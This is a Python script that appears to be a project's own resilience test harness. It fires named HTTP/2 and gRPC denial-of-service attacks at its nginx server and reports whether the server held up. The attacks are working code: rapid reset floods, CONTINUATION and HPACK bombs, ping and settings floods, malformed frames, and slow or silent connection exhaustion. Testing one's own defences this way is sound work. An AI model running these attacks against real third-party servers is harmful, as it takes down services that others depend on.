"""One attack on a server's HTTP/2: attacks.py NAME HOST:PORT SECONDS [SOURCE]. Prints what it sent and how it ended as JSON.

SOURCE is the address that it comes from. It runs in a process of its own, so it may run in another network namespace. If the
server let something through that it must end, "wrong" in the JSON says what.
"""
import contextlib
import json
import resource
import struct
import sys
import time

from attack_wire import (AIM, connect, crowd, each_answered, flood, grpc_message, let_through, open_socket, pump, too_few, unread,
                         within_windows)
import h2.exceptions
import hpack
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
                   STREAM, WINDOW_UPDATE, call_headers, fields, frame)

CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW, MOST_WINDOW = 4, 2**31 - 1  # the setting, and its largest value
FIRST_CALL_SECONDS = 10  # nginx.conf's client_header_timeout


def rapid_reset() -> dict:
    headers = call_headers()

    def hundred(n: int) -> bytes:
        streams = range(1 + 200 * n, 201 + 200 * n, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)
    return pump(hundred)


def rapid_reset_of_sessions() -> dict:
    """Each call is reset after a whole open message, so that a session begins for it."""
    from harness import v1
    headers = call_headers()

    def fifty(n: int) -> bytes:
        streams = range(1 + 100 * n, 101 + 100 * n, 2)
        opens = {stream: grpc_message(v1.StreamRequest(open=v1.StreamOpen(session=f"reset-{stream}"))) for stream in streams}
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, opens[stream])
                        + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)
    return pump(fifty)


def rapid_reset_by_the_server() -> dict:
    """Calls that the server itself must reset: each updates its window by nothing, which is an error of the stream."""
    headers = call_headers()

    def hundred(n: int) -> bytes:
        streams = range(1 + 200 * n, 201 + 200 * n, 2)
        return b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
                        for stream in streams)
    return pump(hundred)


def endless_continuation() -> dict:
    return pump(frame(CONTINUATION, 0, 1, fields(("x-j", "v" * 1000)) * 10), frame(HEADERS, 0, 1, call_headers()))


def endless_field() -> dict:
    """One header field whose value never ends."""
    length = bytes(hpack.hpack.encode_integer(2**28, 7))
    return pump(frame(CONTINUATION, 0, 1, b"v" * 16384), frame(HEADERS, 0, 1, call_headers() + b"\x10\x03x-j" + length))


def hpack_bomb() -> dict:
    """4 KB in the table of names, asked for again and again by one byte: each byte is 4 KB of headers."""
    insert = b"\x40\x03x-b" + bytes(hpack.hpack.encode_integer(4000, 7)) + b"b" * 4000
    headers, bytes_of_one = call_headers(), b"\xbe" * 16000

    def bomb(n: int) -> bytes:
        return frame(HEADERS, 0, 3 + 2 * n, headers + bytes_of_one) + frame(CONTINUATION, END_HEADERS, 3 + 2 * n, bytes_of_one)
    return pump(bomb, frame(HEADERS, END_HEADERS, 1, headers + insert))


def large_headers() -> dict:
    """9 KB of headers, which Debian's gRPC does not take well (CVE-2023-1428)."""
    headers = call_headers(("x-pad", "p" * 9000), *[("grpc-tags-bin", "AAAA")] * 50)
    return pump(lambda n: frame(HEADERS, END_HEADERS, 1 + 2 * n, headers))


A_PING = frame(PING, 0, 0, b"12345678")


def ping_flood() -> dict:
    return pump(A_PING * 100)


def settings_flood() -> dict:
    return pump(frame(SETTINGS, 0, 0) * 100)


PINGS = A_PING * 1000


def unread_pings() -> dict:
    return unread(PINGS)


def pings_after_the_end() -> dict:
    """Pings a few at a time, until nginx ends the connections because they carry nothing else. Then a flood, which must not keep
    nginx reading."""
    end, kept = time.monotonic() + AIM.seconds, [connect() for _ in range(4)]
    while any(one.ended is None for one in kept) and time.monotonic() < end:
        for one in kept:
            with contextlib.suppress(OSError):
                one.socket.send(A_PING * 100)
        time.sleep(0.0002)
    ends, sent = [one.ended for one in kept], flood(kept, PINGS, end)
    return ({"connections": len(kept), "mib": sent >> 20, "ends": ends}
            | let_through(sent > 200 << 20, "a flood after the end of its connections"))


def unread_settings() -> dict:
    return unread(frame(SETTINGS, 0, 0) * 1000)


def window_flips() -> dict:
    """The window of 60 open calls, from nothing to everything and back."""
    calls = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * n, call_headers()) for n in range(60))
    flip = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, size)) for size in (0, MOST_WINDOW))
    return pump(flip * 50, calls)


def window_overflow() -> dict:
    """Window updates beyond the largest window, of the connection and of a call."""
    most = struct.pack(">I", MOST_WINDOW)
    did = pump(frame(WINDOW_UPDATE, 0, 0, most) + frame(WINDOW_UPDATE, 0, 1, most), frame(HEADERS, END_HEADERS, 1, call_headers()))
    return did | let_through(did["connections"] < 2, "a connection whose window overflows")


def goaway_flood() -> dict:
    return pump(frame(GOAWAY, 0, 0, bytes(8)) * 100)


def unknown_frames() -> dict:
    return pump(frame(0x77, 0xff, 12345, bytes(100)) * 50)


def frames_out_of_place() -> dict:
    start = PREFACE + frame(SETTINGS, 0, 0)
    call = frame(HEADERS, END_HEADERS, 1, call_headers())
    return each_answered({
        "data on stream 0": start + frame(DATA, 0, 0, bytes(100)),
        "headers on stream 0": start + frame(HEADERS, END_HEADERS, 0, call_headers()),
        "a frame of 16 MiB": start + call + struct.pack(">I", 0xffffff)[1:] + bytes([DATA, 0]) + struct.pack(">I", 1) + bytes(1 << 16),
        "headers of 16 MiB": start + struct.pack(">I", 0xffffff)[1:] + bytes([HEADERS, 0]) + struct.pack(">I", 1) + bytes(1 << 16),
        "a ping of 7 bytes": start + frame(PING, 0, 0, bytes(7)),
        "continuation of nothing": start + frame(CONTINUATION, END_HEADERS, 1, call_headers()),
        "an even stream": start + frame(HEADERS, END_HEADERS, 2, call_headers())}, ("reset", "ended", "closed"))


def other_protocols() -> dict:
    hello = b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + bytes(500)
    return each_answered({"HTTP/1.1": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "TLS": hello, "zeros": bytes(100000)}, ("ended", "closed"))


def odd_requests() -> dict:
    """Calls with methods, paths and headers of other shapes; none of them is left without an answer."""
    usual = {":method": "POST", ":scheme": "http", ":path": STREAM, ":authority": "x", "te": "trailers",
             "content-type": "application/grpc"}
    changes = {"GET": {":method": "GET"}, "no te": {"te": None}, "no authority": {":authority": None}, "an empty path": {":path": ""},
               "a path of 5000 letters": {":path": "/" + "a" * 5000}, "no content type": {"content-type": None},
               "text/html": {"content-type": "text/html"}, "no method": {":method": None}, "a field in upper case": {"X-Upper": "y"},
               "NUL in a value": {"x-n": "a\0b"}, "an unknown encoding": {"grpc-encoding": "zip"},
               "3000 encodings": {"grpc-accept-encoding": "," * 3000}, "an unknown method": {":path": "/candela.v1.RenderService/None"},
               **{f"a timeout of {word}": {"grpc-timeout": word} for word in ("-1S", "99999999999999H", "0n", "abc")}}
    start = PREFACE + frame(SETTINGS, 0, 0)
    requests = {name: fields(*((key, value) for key, value in (usual | change).items() if value is not None))
                for name, change in changes.items()}
    requests["two paths"] = call_headers((":path", "/x/y"))
    return each_answered({name: start + frame(HEADERS, END_HEADERS | END_STREAM, 1, block) for name, block in requests.items()},
                         ("answered", "reset", "ended", "closed"))


def settings_changes() -> dict:
    """A session of nothing but changes of its settings, within the windows that the server gives: a few bytes each."""
    from harness import v1
    opening = grpc_message(v1.StreamRequest(open=v1.StreamOpen(session="changes")))
    changes = grpc_message(v1.StreamRequest(change=v1.SettingsChange(from_sequence=1))) * 500
    end, sent, connections = time.monotonic() + AIM.seconds, 0, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError, h2.exceptions.H2Error), open_socket() as wire:
            connections += 1
            for sent_now in within_windows(wire, opening, changes, end):
                sent += sent_now
    return {"connections": connections, "sent": sent}


def empty_data_flood() -> dict:
    return pump(frame(DATA, 0, 1) * 200, frame(HEADERS, END_HEADERS, 1, call_headers()))


def priority_flood() -> dict:
    return pump(frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 200)


def slow_headers(connections: int) -> dict:
    """Connections whose first HEADERS frame comes one byte a second. nginx waits for it without end."""
    return crowd(connections, frame(HEADERS, END_HEADERS, 1, call_headers()), 20, AIM.seconds, each_second=True)


def half_headers() -> dict:
    did = slow_headers(300)
    return did | too_few(did, 300)


def silent_connections() -> dict:
    """More connections than the server may have files, all silent, for longer than nginx waits for a call."""
    did = crowd(3000, b"", 0, max(AIM.seconds, FIRST_CALL_SECONDS + 4))
    return did | too_few(did, 3000) | let_through(did["ended_by_server"] < did["connections"], "connections that stay silent")


def open_calls() -> dict:
    """600 calls on 60 connections that are open and silent."""
    headers = call_headers()
    did = crowd(60, b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * n, headers) for n in range(10)), 1 << 20, AIM.seconds)
    return did | too_few(did, 60)


def frames_of_a_session(name: str) -> list[bytes]:
    """DATA payloads with the start of a session, for all the window that a server gives at first."""
    from harness import frame_requests, v1
    messages = [v1.StreamRequest(open=v1.StreamOpen(session=name))]
    for sequence in range(3):
        messages += frame_requests(sequence, 320, 180)
    body = b"".join(map(grpc_message, messages))[:60000]
    return [body[at:at + 16384] for at in range(0, len(body), 16384)]


def without_a_window(connections: int, sessions: int) -> dict:
    """Sessions that send frames and take no byte of the results, `sessions` on each of the connections."""
    end, kept = time.monotonic() + AIM.seconds, []
    for number in range(connections):
        with contextlib.suppress(OSError):
            one = connect(settings=struct.pack(">HI", INITIAL_WINDOW, 0))
            for stream in range(1, 2 * sessions, 2):
                parts = frames_of_a_session(f"window-zero-{number}-{stream}")
                one.socket.sendall(frame(HEADERS, END_HEADERS, stream, call_headers())
                                   + b"".join(frame(DATA, 0, stream, part) for part in parts))
            kept.append(one)
    time.sleep(max(0, end - time.monotonic()))
    ended = sum(one.ended is not None for one in kept)
    for one in kept:
        one.close()
    did = {"connections": len(kept), "ended_by_server": ended}
    return did | too_few(did, connections)


def readers_without_a_window() -> dict:
    return without_a_window(60, 1)


def readers_without_a_window_on_one_connection() -> dict:
    return without_a_window(1, 60)


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, rapid_reset_of_sessions, rapid_reset_by_the_server, endless_continuation, endless_field, hpack_bomb,
    large_headers, ping_flood, unread_pings, pings_after_the_end, settings_flood, unread_settings, window_flips, window_overflow,
    empty_data_flood, settings_changes, priority_flood, goaway_flood, unknown_frames, frames_out_of_place, other_protocols, odd_requests,
    half_headers, silent_connections, open_calls, readers_without_a_window, readers_without_a_window_on_one_connection)}
# What takes deploy/firewall.nft before the front: nginx has no limit of connections. These run only by name.
ATTACKS_ON_A_FIREWALL = {"unread_pings_on_60_connections": lambda: unread(PINGS, 60),
                         "half_headers_on_3000_connections": lambda: slow_headers(3000)}

if __name__ == "__main__":
    AIM.address, AIM.seconds, AIM.source = sys.argv[2], float(sys.argv[3]), (sys.argv[4:] or [""])[0]
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(json.dumps((ATTACKS | ATTACKS_ON_A_FIREWALL)[sys.argv[1]]()))
